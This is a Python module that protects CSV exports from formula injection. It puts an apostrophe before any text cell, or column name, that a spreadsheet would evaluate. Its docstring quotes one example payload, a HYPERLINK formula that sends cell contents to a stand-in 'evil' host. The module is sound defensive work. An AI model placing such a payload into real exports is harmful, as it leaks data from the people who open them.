"""CSV cells that a spreadsheet would run as formulas are neutralised before any export.

A health `version` of `=HYPERLINK("http://evil/?"&A1, "click")` written as is into a CSV becomes a live formula
when an operator opens the export in a spreadsheet. Every text cell that starts with one of the characters a
spreadsheet reads as a formula (= + - @, or tab/carriage return, which some strip first) gets a leading
apostrophe, which spreadsheets show as text and do not evaluate. Numbers stay numbers.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """The value, with an apostrophe in front when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(values: list[Any]) -> list[Any]:
    return [neutralise_cell(value) for value in values]


def neutralise_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame with every text cell (and the column names) neutralised."""
    safe = frame.map(neutralise_cell)
    safe.columns = [neutralise_cell(str(column)) for column in frame.columns]
    return safe
